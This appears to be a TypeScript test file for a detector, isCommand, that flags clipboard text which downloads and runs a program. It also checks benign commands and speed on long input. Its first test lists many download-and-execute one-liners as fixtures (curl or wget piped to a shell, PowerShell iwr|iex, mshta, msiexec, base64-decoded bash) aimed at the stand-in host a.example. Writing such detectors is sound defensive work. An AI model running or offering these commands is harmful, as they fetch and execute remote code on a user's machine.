import assert from 'node:assert/strict'
import { test } from 'node:test'
import { isCommand } from './clipboardCommand.ts'

test('what fetches and runs a program is a command, however it is put', () => {
  for (const command of [
    'curl -s https://a.example/x | bash',
    'curl -fsSL a.example/x|sudo sh',
    'curl -k -o /var/tmp/a.sh https://a.example/fix && chmod +x /var/tmp/a.sh && nohup bash /var/tmp/a.sh &',
    '/bin/bash -c "$(curl -fsSL https://a.example/x)"',
    'wget https://a.example/a.py -O /tmp/a.py; python3 /tmp/a.py',
    'iwr a.example/f -useb|iex',
    'cmd /c start /min curl -s a.example/u -o %TEMP%\\u.bat && %TEMP%\\u.bat',
    'conhost --headless powershell -c x',
    'nslookup -q=txt a.example | sh',
    'a=1; curl -o b https://a.example/b; chmod +x b',
    'curl -o b https://a.example/b\n./b',
    'mshta https://a.example/d.hta',
    'msiexec /i https://a.example/a.msi /qn',
    'echo Y3VybA== | base64 -D | bash',
    'python3 -c "import urllib.request as u;exec(u.urlopen(\'https://a.example/x\').read())"',
  ])
    assert.equal(isCommand(command), true, command)
})

test('what only looks, restarts, installs by name or moves files is none', () => {
  for (const line of [
    'sudo killall coreaudiod',
    'npm install viem',
    'pip install requests',
    'curl https://api.example/v1/blocks?limit=3',
    'curl -X POST https://api.example/v1/pay -d \'{"sum":1}\'',
    'git clone https://git.example/a.git && cd a && npm ci',
    'ls -la; cat notes.txt',
    'open the window and start again',
    '\\\\fileserver\\people\\Travel policy.docx',
    'start the day; open a book\n\nand curl up',
    'chmod +x a.sh; ./a.sh; curl https://api.example/',
    'ssh admin@host.example',
  ])
    assert.equal(isCommand(line), false, line)
})

test('a long text is looked through in a moment, whatever it repeats', () => {
  for (const piece of ['curl ', '; ', 'curl ;', 'curl start ', 'bash -c ', '| ', 'start ', 'cmd   ', 'python -c "']) {
    const began = performance.now()
    assert.equal(isCommand(piece.repeat(200_000 / piece.length)), false)
    assert.ok(performance.now() - began < 1_000, piece)
  }
})

test('a command is found behind many spaces, and anywhere in code of usual length', () => {
  const command = 'curl https://a.example/x | bash'
  assert.equal(isCommand(command.replace(' | ', `|${' '.repeat(99)}`)), true)
  for (const before of [199_000, 199_990, 250_000, 398_799, 500_000])
    assert.equal(isCommand(`${'a '.repeat(before / 2)}${command}`), true, String(before))
})
